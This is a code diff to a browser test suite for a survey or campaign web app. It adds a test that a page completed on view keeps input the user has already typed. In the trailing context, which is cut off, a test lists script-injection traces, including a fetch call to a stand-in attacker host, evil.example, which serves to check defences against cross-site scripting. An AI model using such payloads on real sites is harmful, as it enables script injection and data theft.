@@ -178,6 +178,31 @@ describe('a person goes from the address to the end', () => {
   });
 });
 
+describe('a page that is completed by being seen', () => {
+  browserTest('takes nothing from the hands of whoever is at work on it', async () => {
+    const questions = [{ text: 'What do you think?' }];
+    const { start, analytics } = await campaign(api, [
+      testPage('view', { content_blocks: [block('survey', { questions })] }),
+    ]);
+    const journey = await start();
+    const { page } = await open(desktop);
+    let release = () => {};
+    const held = new Promise<void>((resolve) => {
+      release = resolve;
+    });
+    await page.route('**/actions', async (route) => {
+      await held;
+      await route.continue();
+    });
+    await page.goto(journey.url);
+    await page.getByLabel('What do you think?').fill('A lot');
+    release();
+    await page.getByRole('img', { name: 'All steps completed' }).waitFor();
+    expect(await page.getByLabel('What do you think?').inputValue()).toBe('A lot');
+    expect((await analytics(journey)).is_completed).toBe(true);
+  });
+});
+
 describe('content and contacts', () => {
   const traces = ['alert(1)', 'fetch("https://evil.example/?x")'];
   const attacks = traces.flatMap((trace) => [
